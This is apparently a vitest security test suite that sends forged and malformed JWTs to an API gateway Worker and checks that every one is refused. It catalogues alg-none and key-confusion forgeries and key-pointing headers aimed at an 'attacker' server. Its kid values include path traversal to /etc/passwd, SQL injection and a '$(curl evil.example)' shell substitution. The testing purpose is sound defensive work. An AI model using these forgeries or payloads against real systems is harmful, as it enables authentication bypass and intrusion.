// Adversarial JWTs against the running Worker: every way of forging, bending
// or bloating a token we know of, each sent to its own path so we can check
// it was refused with 401 invalid-token problem+json (never a 5xx), without
// echoing the token and without reaching the origin. Header members that
// name keys (jku, x5u, jwk, x5c) point at a server we watch: it must never
// be called. Clock-skew cases sit a few seconds inside and outside the
// issuer's 5 s leeway, so the outcome does not depend on timing.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ISSUER, JWKS_STEADY, unique, useEdge } from "../support/harness";
import { JwksServer } from "../support/jwks";
import { b64url, claims, ecKey, nowSecs, rsaKey, signJwt, unsignedJwt, hmacJwt } from "../support/tokens";
import { expectAllRefused, rawHmac, rawSigned, signingInput, signWith, type Case } from "./support/forge";

const edge = useEdge();
/** A server the forged headers point at: it must see no request. */
let attacker: JwksServer;
const evil = rsaKey("evil-1");

beforeAll(async () => {
  attacker = await JwksServer.start();
  attacker.setKeys("/jwks.json", [evil.jwk]);
  attacker.setKeys("/x5u.pem", [evil.jwk]);
});
afterAll(async () => attacker.close());

const json = JSON.stringify;
const goodClaims = () => claims(ISSUER);
const hdr = (extra: Record<string, unknown> = {}) => json({ alg: "RS256", typ: "JWT", kid: "rsa-1", ...extra });
const accepted = async (token: string) =>
  edge.fetch(`/jwt/${unique()}`, { headers: { authorization: `Bearer ${token}` } });

describe("algorithm attacks", () => {
  it("refuses alg none in every spelling, empty, missing, non-string and unknown algs", async () => {
    const c = goodClaims();
    const cases: Case[] = [
      ...["none", "None", "NONE", "nOnE"].map((alg) => ({ name: `alg ${alg}`, token: unsignedJwt(c, { alg, kid: "rsa-1" }) })),
      { name: "alg none with a real RS256 signature", token: `${unsignedJwt(c, { alg: "none", kid: "rsa-1" })}${signJwt(edge.rsa, c).split(".")[2]}` },
      { name: "alg empty", token: unsignedJwt(c, { alg: "", kid: "rsa-1" }) },
      { name: "alg missing", token: `${b64url(json({ typ: "JWT", kid: "rsa-1" }))}.${b64url(json(c))}.` },
      { name: "alg null", token: rawSigned(edge.rsa, json({ alg: null, kid: "rsa-1" }), json(c)) },
      { name: "alg array", token: rawSigned(edge.rsa, json({ alg: ["RS256"], kid: "rsa-1" }), json(c)) },
      { name: "alg RS256 with trailing space", token: rawSigned(edge.rsa, json({ alg: "RS256 ", kid: "rsa-1" }), json(c)) },
      { name: "alg rs256 lower case", token: rawSigned(edge.rsa, json({ alg: "rs256", kid: "rsa-1" }), json(c)) },
      { name: "alg HS1 (unknown)", token: rawHmac("x", json({ alg: "HS1", kid: "rsa-1" }), json(c)) },
    ];
    expect(await expectAllRefused(edge, `/jwt/${unique("alg")}`, cases)).toBe(cases.length);
  });

  it("refuses HS256 signed with the RSA or EC public key in every encoding (key confusion)", async () => {
    const c = goodClaims();
    const secrets: [string, Buffer | string][] = [
      ["RSA SPKI PEM", edge.rsa.publicKey.export({ format: "pem", type: "spki" }) as string],
      ["RSA PKCS#1 PEM", edge.rsa.publicKey.export({ format: "pem", type: "pkcs1" }) as string],
      ["RSA SPKI PEM without final newline", (edge.rsa.publicKey.export({ format: "pem", type: "spki" }) as string).trimEnd()],
      ["RSA SPKI DER", edge.rsa.publicKey.export({ format: "der", type: "spki" }) as Buffer],
      ["RSA PKCS#1 DER", edge.rsa.publicKey.export({ format: "der", type: "pkcs1" }) as Buffer],
      ["RSA modulus n", Buffer.from(String(edge.rsa.jwk.n), "base64url")],
      ["RSA JWK JSON", json(edge.rsa.jwk)],
      ["EC SPKI PEM", edge.ec.publicKey.export({ format: "pem", type: "spki" }) as string],
      ["empty secret", ""],
    ];
    const cases: Case[] = [];
    for (const [what, secret] of secrets) {
      for (const kid of ["rsa-1", "ec-1", "hs-1", undefined]) {
        cases.push({ name: `HS256 with ${what}, kid ${kid}`, token: hmacJwt(secret, c, kid ? { kid } : {}) });
      }
    }
    expect(await expectAllRefused(edge, `/jwt/${unique("confusion")}`, cases)).toBe(cases.length);
  });

  it("refuses a correct PS256 signature by the RSA key (the issuer allows RS256 only) and ES256 on the RSA kid", async () => {
    const c = json(goodClaims());
    const ps = signingInput(json({ alg: "PS256", kid: "rsa-1" }), c);
    const es = signingInput(json({ alg: "ES256", kid: "rsa-1" }), c);
    const cases: Case[] = [
      { name: "PS256 by the real RSA key", token: `${ps}.${signWith("PS256", edge.rsa.privateKey, ps)}` },
      { name: "ES256 by the real EC key, RSA kid", token: `${es}.${signWith("ES256", edge.ec.privateKey, es)}` },
      { name: "RS256 header, EC kid, RSA signature", token: rawSigned(edge.rsa, json({ alg: "RS256", kid: "ec-1" }), c) },
    ];
    await expectAllRefused(edge, `/jwt/${unique("algmix")}`, cases);
  });
});

describe("key-pointing headers (never followed)", () => {
  it("ignores jku, x5u, jwk and x5c: the attacker's key is never fetched nor trusted", async () => {
    const c = json(goodClaims());
    const evilJwk = { kty: evil.jwk.kty, n: evil.jwk.n, e: evil.jwk.e, kid: "evil-1" };
    const x5c = [b64url(evil.publicKey.export({ format: "der", type: "spki" }) as Buffer).replace(/-/g, "+").replace(/_/g, "/")];
    const before = edge.jwks.fetches(JWKS_STEADY);
    const headers: [string, Record<string, unknown>][] = [
      ["jku to attacker", { jku: `${attacker.url}/jwks.json`, kid: "evil-1" }],
      ["jku to attacker, known kid", { jku: `${attacker.url}/jwks.json`, kid: "rsa-1" }],
      ["x5u to attacker", { x5u: `${attacker.url}/x5u.pem`, kid: "evil-1" }],
      ["embedded jwk", { jwk: evilJwk, kid: "evil-1" }],
      ["embedded jwk, known kid", { jwk: { ...evilJwk, kid: "rsa-1" }, kid: "rsa-1" }],
      ["embedded jwk, no kid", { jwk: evilJwk }],
      ["x5c chain", { x5c, kid: "evil-1" }],
      ["jku + jwk + x5u + x5c", { jku: `${attacker.url}/jwks.json`, x5u: `${attacker.url}/x5u.pem`, jwk: evilJwk, x5c, kid: "rsa-1" }],
      ["jku to the gateway's own JWKS url", { jku: `${edge.jwks.url}${JWKS_STEADY}`, kid: "evil-1" }],
    ];
    const cases: Case[] = headers.map(([name, extra]) => ({
      name,
      token: rawSigned(evil, json({ alg: "RS256", typ: "JWT", ...extra }), c),
    }));
    await expectAllRefused(edge, `/jwt/${unique("jku")}`, cases);
    expect(attacker.fetches("/jwks.json")).toBe(0);
    expect(attacker.fetches("/x5u.pem")).toBe(0);
    // Unknown kids cost at most the one fetch the cooldown allows, whatever the headers say.
    expect(edge.jwks.fetches(JWKS_STEADY) - before).toBeLessThanOrEqual(1);
  });

  it("still accepts a genuine token that carries a jku (the header is ignored, not fatal)", async () => {
    const res = await accepted(signJwt(edge.rsa, goodClaims(), { jku: `${attacker.url}/jwks.json` }));
    expect(res.status, res.text).toBe(200);
    expect(attacker.fetches("/jwks.json")).toBe(0);
  });
});

describe("kid values", () => {
  it("refuses path, SQL, shell, unicode, control-character, huge and non-string kids, with at most one JWKS fetch", async () => {
    const before = edge.jwks.fetches(JWKS_STEADY);
    const c = json(goodClaims());
    const kids: unknown[] = [
      "../../../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "/dev/zero",
      "file:///etc/passwd",
      "http://127.0.0.1:1/jwks.json",
      "' OR '1'='1' --",
      "rsa-1' UNION SELECT k FROM keys --",
      "$(curl evil.example)",
      "`id`",
      "rsa-1\u0000",
      "rsa-1\r\nx-injected: 1",
      "ключ-🔑-鍵",
      "rsa\u200b-1",
      "ｒｓａ-1",
      "RSA-1",
      " rsa-1",
      "",
      "k".repeat(256),
      "k".repeat(257),
      "k".repeat(8_000),
      42,
      true,
      null,
      ["rsa-1"],
      { kid: "rsa-1" },
    ];
    const cases: Case[] = kids.map((kid) => ({
      name: `kid ${JSON.stringify(kid).slice(0, 40)}`,
      // Signed by the real key: only the kid is wrong.
      token: rawSigned(edge.rsa, json({ alg: "RS256", typ: "JWT", kid }), c),
    }));
    expect(await expectAllRefused(edge, `/jwt/${unique("kid")}`, cases)).toBe(kids.length);
    expect(edge.jwks.fetches(JWKS_STEADY) - before).toBeLessThanOrEqual(1);
    // The real kid still works: no unknown kid evicted or poisoned it.
    expect((await accepted(signJwt(edge.rsa, goodClaims()))).status).toBe(200);
  });
});

describe("size and encoding", () => {
  it("refuses tokens of 16 KiB + 1, 64 KiB and with a 60 KiB claim without trouble", async () => {
    const pad = "A".repeat(64 * 1024);
    const big = signJwt(edge.rsa, claims(ISSUER, { pad: "x".repeat(60 * 1024) }));
    const justOver = signJwt(edge.rsa, claims(ISSUER, { pad: "" }));
    const filler = 16 * 1024 + 1 - justOver.length;
    const cases: Case[] = [
      { name: "64 KiB of base64", token: `${pad}.${pad}.${pad}`.slice(0, 64 * 1024) },
      { name: "validly signed, 60 KiB claim", token: big },
      { name: "validly signed, 16 KiB + 1", token: signJwt(edge.rsa, claims(ISSUER, { pad: "x".repeat(Math.ceil((filler * 3) / 4) + 4) })) },
    ];
    expect(cases[2]!.token.length).toBeGreaterThan(16 * 1024);
    await expectAllRefused(edge, `/jwt/${unique("size")}`, cases);
  });

  it("refuses bad base64 and bad structure", async () => {
    const good = signJwt(edge.rsa, goodClaims());
    const [h, p, s] = good.split(".") as [string, string, string];
    const std = (x: string) => Buffer.from(x, "base64url").toString("base64");
    // A segment with "=" padding whatever its length ("=" then sits mid-token).
    const padded = (x: string) => (std(x).endsWith("=") ? std(x) : `${std(x)}==`);
    const cases: Case[] = [
      // Not an RFC 6750 b64token ("=" only at the end, no "!" or space): 400 invalid_request.
      { name: "padded segments", token: `${padded(h)}.${padded(p)}.${std(s)}`, status: 400, slug: "invalid-request" },
      { name: "padded signature only", token: `${h}.${p}.${s}==` },
      { name: "standard alphabet signature", token: `${h}.${p}.${std(s).replace(/=+$/, "")}` },
      { name: "invalid characters", token: `${h}.${p}!.${s}`, status: 400, slug: "invalid-request" },
      { name: "space inside", token: `${h}.${p.slice(0, 5)} ${p.slice(5)}.${s}`, status: 400, slug: "invalid-request" },
      { name: "two segments", token: `${h}.${p}` },
      { name: "four segments", token: `${h}.${p}.${s}.${s}` },
      { name: "empty segments", token: ".." },
      { name: "empty signature", token: `${h}.${p}.` },
      { name: "header not JSON", token: `${b64url("not json")}.${p}.${s}` },
      { name: "header a JSON array", token: `${b64url("[]")}.${p}.${s}` },
      { name: "payload a JSON string", token: `${h}.${b64url('"sub"')}.${s}` },
      { name: "payload with trailing garbage", token: rawSigned(edge.rsa, hdr(), `${json(goodClaims())}x`) },
      { name: "payload nested 5000 deep", token: rawSigned(edge.rsa, hdr(), `{"a":${"[".repeat(5000)}${"]".repeat(5000)}}`) },
      { name: "invalid UTF-8 in payload", token: `${h}.${Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]).toString("base64url")}.${s}` },
      { name: "JWE-shaped (5 segments)", token: `${h}.${b64url("k")}.${b64url("iv")}.${p}.${b64url("tag")}` },
      { name: "crit header", token: rawSigned(edge.rsa, hdr({ crit: ["exp"] }), json(goodClaims())) },
      { name: "payload swapped, signature kept", token: `${h}.${b64url(json(claims(ISSUER, { sub: "admin" })))}.${s}` },
    ];
    await expectAllRefused(edge, `/jwt/${unique("b64")}`, cases);
  });
});

describe("claims", () => {
  it("refuses duplicate members, validly signed (the parsers could disagree)", async () => {
    const now = nowSecs();
    const base = `"iss":"${ISSUER}","aud":"https://api.tidegate.test","iat":${now},"exp":${now + 600}`;
    const cases: Case[] = [
      { name: "duplicate sub", token: rawSigned(edge.rsa, hdr(), `{${base},"sub":"user","sub":"admin"}`) },
      { name: "duplicate exp (expired last)", token: rawSigned(edge.rsa, hdr(), `{${base},"sub":"u","exp":1}`) },
      { name: "duplicate iss", token: rawSigned(edge.rsa, hdr(), `{${base},"sub":"u","iss":"https://evil.example/"}`) },
      { name: "duplicate via escape (\\u0073ub)", token: rawSigned(edge.rsa, hdr(), `{${base},"sub":"u","\\u0073ub":"admin"}`) },
      { name: "duplicate nested", token: rawSigned(edge.rsa, hdr(), `{${base},"sub":"u","x":{"a":1,"a":2}}`) },
      { name: "duplicate alg in header", token: rawSigned(edge.rsa, `{"alg":"none","alg":"RS256","kid":"rsa-1"}`, `{${base},"sub":"u"}`) },
      { name: "duplicate kid in header", token: rawSigned(edge.rsa, `{"alg":"RS256","kid":"evil","kid":"rsa-1"}`, `{${base},"sub":"u"}`) },
    ];
    await expectAllRefused(edge, `/jwt/${unique("dup")}`, cases);
  });

  it("refuses exp/nbf/iat of the wrong type or range, validly signed", async () => {
    const now = nowSecs();
    const bad: [string, Record<string, unknown> | string][] = [
      ["exp as string", { exp: String(now + 600) }],
      ["exp as numeric string with fraction", { exp: `${now + 600}.5` }],
      ["exp huge (1e300)", `"exp":1e300`],
      ["exp past year 9999", { exp: 253_402_300_800 }],
      ["exp 2^63", `"exp":9223372036854775808`],
      ["exp 2^64+1", `"exp":18446744073709551617`],
      ["exp negative", { exp: -1 }],
      ["exp zero", { exp: 0 }],
      ["exp true", { exp: true }],
      ["exp null", { exp: null }],
      ["exp array", { exp: [now + 600] }],
      ["exp object", { exp: { $date: now + 600 } }],
      ["exp missing", { exp: undefined }],
      ["nbf as string", { nbf: String(now) }],
      ["nbf huge", `"nbf":1e300`],
      ["iat as string", { iat: String(now) }],
      ["iat negative", { iat: -5 }],
      ["sub missing", { sub: undefined }],
      ["sub empty", { sub: "" }],
      ["sub number", { sub: 1 }],
      ["aud empty list", { aud: [] }],
      ["aud number", { aud: 1 }],
      ["aud list with a number", { aud: ["https://api.tidegate.test", 1] }],
      ["iss with trailing space", { iss: `${ISSUER} ` }],
      ["scope as array", { scope: ["a"] }],
      ["tier as number", { tier: 3 }],
    ];
    const cases: Case[] = bad.map(([name, change]) => {
      if (typeof change === "string") {
        const body = json(claims(ISSUER, { exp: undefined, nbf: undefined })).slice(0, -1);
        const exp = change.startsWith('"exp"') ? "" : `,"exp":${now + 600}`;
        return { name, token: rawSigned(edge.rsa, hdr(), `${body},${change}${exp}}`) };
      }
      return { name, token: signJwt(edge.rsa, claims(ISSUER, change)) };
    });
    await expectAllRefused(edge, `/jwt/${unique("claims")}`, cases);
  });

  it("accepts a fractional exp and the far-future maximum (year 9999), both validly signed", async () => {
    const now = nowSecs();
    expect((await accepted(signJwt(edge.rsa, claims(ISSUER, { exp: now + 600.25, iat: now - 0.5 })))).status).toBe(200);
    expect((await accepted(signJwt(edge.rsa, claims(ISSUER, { exp: 253_402_300_799 })))).status).toBe(200);
  });
});

describe("clock skew at the leeway edges (test-idp leeway: 5 s)", () => {
  // 3 s inside / outside the leeway: far from the edge compared with a request's duration.
  it("accepts exp, nbf and iat up to the leeway off, and refuses them beyond it", async () => {
    const now = nowSecs();
    const inside = [
      { exp: now - 2 },
      { nbf: now + 2 },
      { iat: now + 2, nbf: undefined },
    ];
    for (const change of inside) {
      const res = await accepted(signJwt(edge.rsa, claims(ISSUER, change)));
      expect(res.status, `${JSON.stringify(change)}: ${res.text}`).toBe(200);
    }
    const t = nowSecs();
    const cases: Case[] = [
      { name: "exp 8 s ago", token: signJwt(edge.rsa, claims(ISSUER, { exp: t - 8 })) },
      { name: "exp 1 h ago", token: signJwt(edge.rsa, claims(ISSUER, { exp: t - 3600, iat: t - 7200, nbf: t - 7200 })) },
      { name: "nbf in 8 s", token: signJwt(edge.rsa, claims(ISSUER, { nbf: t + 8 })) },
      { name: "iat in 8 s", token: signJwt(edge.rsa, claims(ISSUER, { iat: t + 8, nbf: undefined })) },
      { name: "exp == iat == nbf 8 s ago", token: signJwt(edge.rsa, claims(ISSUER, { exp: t - 8, iat: t - 8, nbf: t - 8 })) },
    ];
    await expectAllRefused(edge, `/jwt/${unique("skew")}`, cases);
  });
});

describe("the gateway is unharmed", () => {
  it("serves a valid token after every attack, and never logged a forged token", async () => {
    expect((await accepted(signJwt(edge.ec, goodClaims()))).status).toBe(200);
    expect(edge.gateway.logs.join("\n")).not.toMatch(/panicked|RuntimeError|unreachable/i);
  });
});
